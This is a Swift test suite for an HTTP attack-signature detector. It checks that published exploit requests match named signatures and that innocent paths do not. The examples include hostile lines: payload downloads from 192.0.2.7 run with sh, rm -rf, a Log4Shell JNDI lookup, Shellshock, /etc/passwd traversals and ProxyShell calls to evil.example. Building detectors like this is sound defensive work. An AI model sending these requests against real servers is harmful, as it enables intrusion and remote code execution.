import Testing

@testable import Signatures

@Suite("The built-in signatures")
struct BuiltInTests {
  /// A request as its source publishes it, and the signature that it belongs to.
  struct Example: CustomTestStringConvertible {
    let line: String
    let name: String
    var agent = ""
    var testDescription: String { "\(name): \(line.prefix(60)) \(agent.prefix(40))" }

    init(_ line: String, _ name: String, agent: String = "") {
      self.line = line
      self.name = name
      self.agent = agent
    }
  }

  static let examples = [
    Example("GET /c/winnt/system32/cmd.exe?/c+ver HTTP/1.0", "iis-traversal"),
    Example("GET /scripts/..%u005c..%u005cwinnt/system32/cmd.exe?/c%20type HTTP/1.0", "iis-traversal"),
    Example("GET /scripts/..%e0%80%af../winnt/system32/cmd.exe?/c+ver HTTP/1.0", "iis-traversal"),
    Example("GET /NULL.IDQ HTTP/1.0", "index-server"),
    Example("GET /x.ida?AAAAAA%u9090%u6858=x HTTP/1.0", "index-server"),
    Example("GET /.env HTTP/1.1", "env-file"),
    Example("GET /%2eenv.bak HTTP/1.1", "env-file"),
    Example("GET //laravel/.env HTTP/1.1", "env-file"),
    Example("GET http://www.example.org/.env HTTP/1.1", "env-file"),
    Example("GET /.env?x=1", "env-file"),
    Example("GET /./.env HTTP/1.1", "env-file"),
    Example("GET /foo/../.env HTTP/1.1", "env-file"),
    Example("GET /foo/%2e%2e/bar/.././api/.env HTTP/1.1", "env-file"),
    Example("get /.env http/1.1", "env-file"),
    Example("GET /scripts/root.exe%00?/c+dir HTTP/1.0", "nimda"),
    Example("GET /scripts/root.exe%20?/c+dir HTTP/1.0", "nimda"),
    Example("GET /scripts/root.exe.?/c+dir HTTP/1.0", "nimda"),
    Example("GET /a/../scripts/./Admin.dll HTTP/1.0", "nimda"),
    Example("POST //cgi-bin/.%2e/bin/sh HTTP/1.1", "apache-traversal"),
    Example("POST /x/.././cgi-bin//.%2e/bin/sh HTTP/1.1", "apache-traversal"),
    Example("GET /.git/config HTTP/1.1", "git-directory"),
    Example("GET /.git%2Fconfig HTTP/1.1", "git-directory"),
    Example("POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "apache-traversal"),
    Example("POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1", "apache-traversal"),
    Example("GET /icons/.%2E/%2e%2e/etc/passwd HTTP/1.1", "apache-traversal"),
    Example(
      #"GET /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5 HTTP/1.1"#,
      "thinkphp"),
    Example("GET /public/?s=index/%5Cthink%5CRequest/input&filter=phpinfo&data=1 HTTP/1.1", "thinkphp"),
    Example("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "phpunit"),
    Example("GET /lib/vendor/phpunit/phpunit/Util/PHP/eval-stdin.php HTTP/1.1", "phpunit"),
    Example(
      "POST /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input HTTP/1.1", "php-cgi"),
    Example("POST /?%2Dd+allow_url_include%3Don HTTP/1.1", "php-cgi"),
    Example(
      "POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1", "php-cgi"),
    Example(
      "POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax HTTP/1.1",
      "drupalgeddon2"),
    Example(
      "POST /?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup HTTP/1.1", "drupalgeddon2"),
    Example("POST /_ignition/execute-solution HTTP/1.1", "laravel-ignition"),
    Example(
      "GET /vtigercrm/graph.php?current_language=../../../../../../../..//etc/amportal.conf%00&module=Accounts HTTP/1.1",
      "vtiger-traversal"),
    Example(
      "GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di HTTP/1.1",
      "spring4shell"),
    Example(
      "GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/ HTTP/1.1",
      "ognl"),
    Example("GET /index.action?redirect:${#a=(new java.lang.ProcessBuilder({'id'}))} HTTP/1.1", "ognl"),
    Example(
      "GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false HTTP/1.1",
      "confluence-setup"),
    Example("GET /console/css/%252e%252e%252fconsole.portal HTTP/1.1", "weblogic-console"),
    Example(
      "GET /securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=x HTTP/1.1",
      "jenkins-groovy"),
    Example(
      "GET /autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example HTTP/1.1",
      "proxyshell"),
    Example("GET /Autodiscover/Autodiscover.json%3F@x.example/mapi/nspi/ HTTP/1.1", "proxyshell"),
    Example(
      "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd HTTP/1.1", "f5-tmui"),
    Example("GET /vpn/../vpns/cfg/smb.conf HTTP/1.1", "citrix-traversal"),
    Example(
      "GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1",
      "pulse-traversal"),
    Example("GET /api/v1/totp/user-backup-code/../../license/keys-status/x HTTP/1.1", "ivanti-traversal"),
    Example(
      "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
      "fortios-traversal"),
    Example("POST /ui/vropspluginui/rest/services/uploadova HTTP/1.1", "vcenter-upload"),
    Example("GET /human2.aspx HTTP/1.1", "moveit-shell"),
    Example("POST /GponForm/diag_Form?images/ HTTP/1.1", "gpon-router"),
    Example("POST /boaform/admin/formPing HTTP/1.1", "gpon-boaform"),
    Example(
      "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/&currentsetting.htm=1 HTTP/1.0",
      "netgear-setup"),
    Example("GET /cgi-bin/;wget${IFS}http://192.0.2.7/x HTTP/1.1", "netgear-cgi"),
    Example("GET /shell?cd+/tmp;rm+-rf+*;wget+192.0.2.7/jaws;sh+/tmp/jaws HTTP/1.1", "mvpower-shell"),
    Example("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1", "huawei-hg532"),
    Example("PUT /SDK/webLanguage HTTP/1.1", "hikvision-language"),
    Example(
      "GET /adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bls+%23&password=x HTTP/1.1", "zyxel-weblogin"),
    Example("POST /ztp/cgi-bin/handler HTTP/1.1", "zyxel-weblogin"),
    Example("GET /login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.7/x%27$ HTTP/1.1", "dlink-cli"),
    Example("GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=bHM= HTTP/1.1", "dlink-nas"),
    Example(
      "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id) HTTP/1.1", "tplink-locale"),
    Example("POST /tmUnblock.cgi HTTP/1.1", "linksys-themoon"),
    Example("POST /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id HTTP/1.1", "tbk-recorder"),
    Example("GET / HTTP/1.1", "log4shell", agent: "${jndi:ldap://192.0.2.7:1389/a}"),
    Example("GET /?x=${jndi:ldap://192.0.2.7/a} HTTP/1.1", "log4shell"),
    Example("GET / HTTP/1.1", "shellshock", agent: "() { :;}; /bin/bash -c 'id'"),
  ]

  @Test("know the requests that their sources publish", arguments: examples)
  func known(example: Example) {
    let request = Request(line: example.line.utf8, agent: Array(example.agent.utf8))
    #expect(SignatureTable().match(request)?.signature.name == example.name)
  }

  @Test("all have such a request")
  func complete() {
    let tested = Set(
      Self.examples.map(\.name) + ["nimda", "sadmind-iis"] + WormListTests.others.compactMap(\.1))
    #expect(Set(SignatureTable.builtIn.map(\.name)).subtracting(tested) == [])
  }

  @Test(
    "have one sentence of explanation, a source, and names fit for options", arguments: SignatureTable.builtIn
  )
  func texts(signature: Signature) {
    #expect(signature.explanation.hasPrefix("This") && signature.explanation.hasSuffix("."))
    #expect(signature.explanation.utf8.allSatisfy { (0x20...0x7E).contains($0) })
    #expect(!signature.explanation.contains("  "))
    #expect((3...60).contains(signature.title.utf8.count) && signature.source.utf8.count >= 8)
    #expect(
      signature.name.utf8.allSatisfy {
        (0x61...0x7A).contains($0) || (0x30...0x39).contains($0) || $0 == 0x2D
      })
    #expect(signature.patterns.allSatisfy { $0.isWellFormed })
  }

  @Test("have different names")
  func names() {
    let names = SignatureTable.builtIn.map(\.name)
    #expect(Set(names).count == names.count)
  }

  @Test(
    "do not know innocent requests",
    arguments: [
      "/", "/scripts/site.js", "/docs/default.idaho.html", "/index.html", "/environment", "/env",
      "/.environment",
      "/.env.example", "/docs/.env.html", "/mirror/app/src/branch/main/.env", "/git/config",
      "/repo.git/config",
      "/.git/HEAD", "/.git/info/refs?service=git-upload-pack", "/.well-known/security.txt",
      "/.well-known/acme-challenge/root.exe", "/robots.txt", "/wp-login.php", "/xmlrpc.php",
      "/phpmyadmin/index.php", "/admin.dll.txt", "/_vti_bin/_vti_adm/admin.dll", "/download/root.exe",
      "/download/cmd.exe", "/download/cmd.exe?mirror=1", "/files/x.ida", "/files/x.idq",
      "/blog/default.ida-explained",
      "/advisories/CVE-2021-41773?path=/cgi-bin/.%2e/", "/search?q=%24%7Bjndi",
      "/search?q=%24%7Bjndi%3Aldap%7D", "/search?q=%5B%23post_render%5D",
      "/wiki/C:%5CWINNT%5Csystem32%5Ccmd.exe", "/search?q=%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS",
      "/job/x/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScript?value=x",
      "/search?q=${user}",
      "/search?q=%24%7Blower:x%7D", "/mirror/phpunit/src/branch/11.0/src/Util/PHP/eval-stdin.php",
      "/sebastianbergmann/phpunit/blob/main/src/Util/PHP/eval-stdin.php", "/search?q=allow_url_include",
      "/search?-dash=1", "/autodiscover/autodiscover.json?Email=a@example.org&Protocol=ActiveSync",
      "/autodiscover/autodiscover.json/v1.0/a@example.org?Protocol=AutodiscoverV1",
      "/autodiscover/autodiscover.xml",
      "/shell", "/shell?lang=en", "/login.cgi?user=x", "/setup.cgi", "/HNAP1/", "/SDK/webLanguage",
      "/cgi-bin/search", "/cgi-bin/luci/", "/console/", "/console/css/login.css", "/vpn/index.html",
      "/tmui/login.jsp", "/remote/login", "/remote/fgt_lang?lang=en", "/server-info.action",
      "/actuator/health", "/_ignition/health-check",
      "/user/register?element_parents=field_image/widget/0&ajax_form=1",
      "/a/../b", "/a/%2e%2e/b", "/..", "/../..", "/.", "/...", "/ ", "/%00", "/.env/..", "/docs/.env/../x",
      "/caf%c3%a9", "/%c0%80", "/%", "/%%", "/%zz", "/%u", "/\0", "/?", "*",
      "/path?x=%00%ff", "/%25252525252e", "/c/page?/c+dir",
    ])
  func innocent(target: String) {
    let agent = Array("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".utf8)
    let referer = Array("https://www.example.org/?f=function() {}".utf8)
    let request = Request(
      method: "GET".utf8, target: target.utf8, version: [], agent: agent, referer: referer)
    #expect(SignatureTable().match(request) == nil)
  }

  @Test("do not know what every server is asked for")
  func ordinary() {
    let table = SignatureTable()
    #expect(OrdinaryRequests.all.allSatisfy { table.match($0) == nil })
  }
}
